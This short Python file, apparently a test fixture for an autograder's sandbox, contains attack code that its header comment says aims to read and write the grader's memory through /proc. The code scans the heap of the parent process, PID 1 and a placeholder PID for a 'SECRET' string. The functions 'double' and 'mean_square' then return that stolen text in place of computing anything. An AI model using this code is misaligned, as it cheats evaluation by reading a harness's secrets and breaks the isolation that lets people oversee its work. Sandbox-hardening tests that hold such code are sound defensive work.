# tries: to read and write the memory of the grader through /proc

import os

loot = ""
for pid in {os.getppid(), "@PID@", 1, "self"}:
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb+", 0) as memory:
            for line in maps:
                low, high = (int(part, 16) for part in line.split()[0].split("-"))
                if "heap" in line and pid != "self":
                    memory.seek(low)
                    loot += memory.read(min(high - low, 10_000_000)).decode("latin-1")
    except (OSError, ValueError):
        pass
position = loot.find("SECRET")
loot = loot[position : position + 100] if position >= 0 else ""


def double(x):
    return loot


def mean_square(x):
    return loot
